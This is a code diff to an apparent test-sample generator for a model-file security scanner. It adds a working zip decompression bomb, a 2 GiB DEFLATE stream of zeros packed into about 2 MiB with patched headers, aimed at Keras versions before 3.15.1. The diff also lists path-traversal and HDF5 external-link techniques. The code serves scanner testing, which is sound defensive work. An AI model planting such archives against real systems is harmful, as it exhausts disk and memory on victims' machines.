@@ -13,6 +13,7 @@ import base64
 import json
 import os
 import zipfile
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -37,6 +38,7 @@ TECHNIQUES: dict[str, tuple[str, tuple[str, ...]]] = {
     "layer_name_traversal": ("GC408", ("json", "h5", "keras")),
     "zip_traversal_member": ("GC409", ("keras",)),
     "zip_absurd_member": ("GC409", ("keras",)),
+    "zip_deflate_bomb": ("GC409", ("keras",)),
     "hdf5_external_storage": ("GC410", ("h5", "keras")),
     "hdf5_external_link": ("GC410", ("h5", "keras")),
     "hdf5_virtual_dataset": ("GC410", ("h5", "keras")),
@@ -201,6 +203,11 @@ def _h5_payload(kind: str, secret: Path) -> Callable[[Any], None]:
     return write
 
 
+def write_h5_payload(handle: Any, technique: str, secret: Path) -> None:
+    """Write the HDF5 oddity of ``technique`` (``hdf5_...``) into an open h5py file."""
+    _h5_payload(technique, secret)(handle)
+
+
 def write_sample(technique: str, fmt: str, directory: Path, secret: Path) -> Path:
     """Write the sample of ``technique`` in format ``fmt`` (json, h5 or keras)."""
     import h5py
@@ -223,6 +230,11 @@ def write_sample(technique: str, fmt: str, directory: Path, secret: Path) -> Pat
         return hf.write_keras_zip(
             path, _plain_config(), extra=[("../../graphcheck-escape.txt", b"x")]
         )
+    if technique == "zip_deflate_bomb":
+        # The shape Keras before 3.15.1 extracts in full: 2 GiB of zeros, ~2 MiB stored.
+        hf.write_keras_zip(path, _plain_config())
+        append_deflate_bomb(path, "assets/bomb.bin", 2 << 30, chunk=16 << 20)
+        return path
     if technique == "zip_absurd_member":
         hf.write_keras_zip(path, _plain_config())
         _append_absurd_member(path)
@@ -245,6 +257,94 @@ def _append_absurd_member(path: Path) -> None:
     # Patch the central-directory entry of the last member: uncompressed size at +24.
     entry = data.rfind(b"PK\x01\x02")
     data[entry + 24 : entry + 28] = (0xFFFFFFFE).to_bytes(4, "little")
+    path.write_bytes(bytes(data))
+
+
+def _gf2_times(matrix: list[int], vector: int) -> int:
+    total, row = 0, 0
+    while vector:
+        if vector & 1:
+            total ^= matrix[row]
+        vector >>= 1
+        row += 1
+    return total
+
+
+def _gf2_square(matrix: list[int]) -> list[int]:
+    return [_gf2_times(matrix, matrix[n]) for n in range(32)]
+
+
+def crc32_combine(first: int, second: int, length: int) -> int:
+    """CRC-32 of ``a + b`` from ``crc32(a)``, ``crc32(b)`` and ``len(b)`` (zlib's method)."""
+    if length <= 0:
+        return first
+    odd = [0xEDB88320] + [1 << n for n in range(31)]
+    even = _gf2_square(odd)
+    odd = _gf2_square(even)
+    while True:
+        even = _gf2_square(odd)
+        if length & 1:
+            first = _gf2_times(even, first)
+        length >>= 1
+        if not length:
+            break
+        odd = _gf2_square(even)
+        if length & 1:
+            first = _gf2_times(odd, first)
+        length >>= 1
+        if not length:
+            break
+    return first ^ second
+
+
+def deflate_zeros(size: int, chunk: int = 1 << 20) -> tuple[bytes, int]:
+    """A raw DEFLATE stream that really inflates to ``size`` zero bytes, and their CRC-32.
+
+    One chunk is compressed and repeated: a full flush ends each copy on a byte
+    boundary with an empty window, so copies concatenate into one valid stream
+    without compressing ``size`` bytes (ratio 1,011:1 with 1 MiB chunks, 1,028:1
+    with 16 MiB ones; DEFLATE's limit is about 1,032:1).
+    """
+    chunk = max(1, min(chunk, size))
+    count, rest = divmod(size, chunk)
+    block = zlib.compressobj(9, zlib.DEFLATED, -15)
+    piece = block.compress(bytes(chunk)) + block.flush(zlib.Z_FULL_FLUSH)
+    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
+    end = (tail.compress(bytes(rest)) if rest else b"") + tail.flush()
+    # CRC of `count` copies by doubling: log2(count) combines, not count.
+    crc, run_crc, run_length, copies = 0, zlib.crc32(bytes(chunk)), chunk, count
+    while copies:
+        if copies & 1:
+            crc = crc32_combine(crc, run_crc, run_length)
+        run_crc, run_length = crc32_combine(run_crc, run_crc, run_length), run_length * 2
+        copies >>= 1
+    crc = crc32_combine(crc, zlib.crc32(bytes(rest)), rest)
+    return piece * count + end, crc
+
+
+def append_deflate_bomb(path: Path, name: str, size: int, chunk: int = 1 << 20) -> None:
+    """Append member ``name``: a real DEFLATE stream of ``size`` zeros, honestly declared.
+
+    Written stored, then its local header and central-directory entry are patched to
+    say what it is (method 8, the CRC and size of the inflated bytes), as a zip tool
+    would have written it. ``size`` stays below 4 GiB (no ZIP64 fields).
+    """
+    if size >= 1 << 32:
+        raise ValueError("size must stay below 4 GiB")
+    stream, crc = deflate_zeros(size, chunk)
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as archive:
+        archive.writestr(name, stream)
+        offset = archive.getinfo(name).header_offset
+    data = bytearray(path.read_bytes())
+    central = data.rfind(b"PK\x01\x02")
+    for at, version, method, crc_at, size_at in (
+        (offset, 4, 8, 14, 22),
+        (central, 6, 10, 16, 24),
+    ):
+        data[at + version : at + version + 2] = (20).to_bytes(2, "little")
+        data[at + method : at + method + 2] = (zipfile.ZIP_DEFLATED).to_bytes(2, "little")
+        data[at + crc_at : at + crc_at + 4] = crc.to_bytes(4, "little")
+        data[at + size_at : at + size_at + 4] = size.to_bytes(4, "little")
     path.write_bytes(bytes(data))
 
 
